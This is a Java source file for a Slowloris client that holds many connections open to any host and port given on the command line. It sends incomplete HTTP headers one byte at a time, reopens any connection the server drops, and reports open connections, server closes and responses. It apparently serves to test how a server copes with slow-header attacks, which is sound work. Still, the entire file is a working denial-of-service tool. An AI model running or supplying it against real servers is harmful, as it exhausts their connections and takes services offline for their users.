import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;

/**
 * Slowloris: keeps N connections whose request headers never end. Each connection sends
 * {@code GET /work?ms=0 HTTP/1.1} and then one header byte every 500 to 1000 ms, never the
 * blank line. A connection that the server closes is counted and opened again, so N stay
 * open as long as the server lets them. Prints a line per second
 * ({@code T <second> open=<n> closedByServer=<n>}) and at the end
 * {@code SLOW opened=<n> closedByServer=<n> responses=<n> openAtEnd=<n> maxAgeMs=<n>}.
 * <p>
 * Usage: {@code java SlowClient.java HOST PORT CONNECTIONS SECONDS}.
 */
public class SlowClient {

	private static final byte[] START = "GET /work?ms=0 HTTP/1.1\r\nHost: slow\r\n".getBytes(StandardCharsets.US_ASCII);

	private static final byte[] HEADER = "X-Slow: a\r\n".getBytes(StandardCharsets.US_ASCII);

	public static void main(String[] args) throws Exception {
		InetSocketAddress address = new InetSocketAddress(args[0], Integer.parseInt(args[1]));
		int count = Integer.parseInt(args[2]);
		long end = System.currentTimeMillis() + Long.parseLong(args[3]) * 1000;
		Selector selector = Selector.open();
		List<Slow> all = new ArrayList<>();
		long opened = 0;
		long closedByServer = 0;
		long responses = 0;
		long nextReport = System.currentTimeMillis() + 1000;
		int second = 0;
		ByteBuffer buffer = ByteBuffer.allocate(4096);
		while (System.currentTimeMillis() < end) {
			// keep N open, opening at most 100 per round so as not to flood the accept queue
			for (int i = 0; all.size() < count && i < 100; i++) {
				SocketChannel channel = SocketChannel.open();
				channel.configureBlocking(false);
				Slow slow = new Slow(channel);
				channel.connect(address);
				channel.register(selector, SelectionKey.OP_CONNECT | SelectionKey.OP_READ, slow);
				all.add(slow);
				opened++;
			}
			selector.select(20);
			for (SelectionKey key : selector.selectedKeys()) {
				Slow slow = (Slow) key.attachment();
				try {
					if (key.isConnectable() && slow.channel.finishConnect()) {
						key.interestOps(SelectionKey.OP_READ);
						slow.connectedAt = System.currentTimeMillis();
						slow.channel.write(ByteBuffer.wrap(START));
						slow.nextByte = slow.connectedAt + delay();
					}
					else if (key.isReadable()) {
						buffer.clear();
						int n = slow.channel.read(buffer);
						if (n < 0) {
							throw new IOException("EOF");
						}
						// the server answered (e.g. 400 or 408) instead of waiting: it will close
						responses++;
					}
				}
				catch (IOException ex) {
					slow.closed = true;
				}
			}
			selector.selectedKeys().clear();
			long now = System.currentTimeMillis();
			for (Slow slow : all) {
				if (!slow.closed && slow.connectedAt > 0 && now >= slow.nextByte) {
					try {
						slow.channel.write(ByteBuffer.wrap(HEADER, slow.headerIndex, 1));
						slow.headerIndex = (slow.headerIndex + 1) % HEADER.length;
						slow.nextByte = now + delay();
					}
					catch (IOException ex) {
						slow.closed = true;
					}
				}
			}
			for (int i = all.size() - 1; i >= 0; i--) {
				Slow slow = all.get(i);
				if (slow.closed) {
					closedByServer++;
					slow.channel.close();
					all.remove(i);
				}
			}
			if (now >= nextReport) {
				System.out.println("T " + (++second) + " open=" + all.size() + " closedByServer=" + closedByServer);
				nextReport += 1000;
			}
		}
		long now = System.currentTimeMillis();
		long maxAge = 0;
		for (Slow slow : all) {
			if (slow.connectedAt > 0) {
				maxAge = Math.max(maxAge, now - slow.connectedAt);
			}
		}
		System.out.println("SLOW opened=" + opened + " closedByServer=" + closedByServer + " responses=" + responses
				+ " openAtEnd=" + all.size() + " maxAgeMs=" + maxAge);
		for (Slow slow : all) {
			slow.channel.close();
		}
		System.exit(0);
	}

	private static long delay() {
		return ThreadLocalRandom.current().nextLong(500, 1001);
	}

	static final class Slow {

		final SocketChannel channel;

		long connectedAt;

		long nextByte;

		int headerIndex;

		boolean closed;

		Slow(SocketChannel channel) {
			this.channel = channel;
		}

	}

}
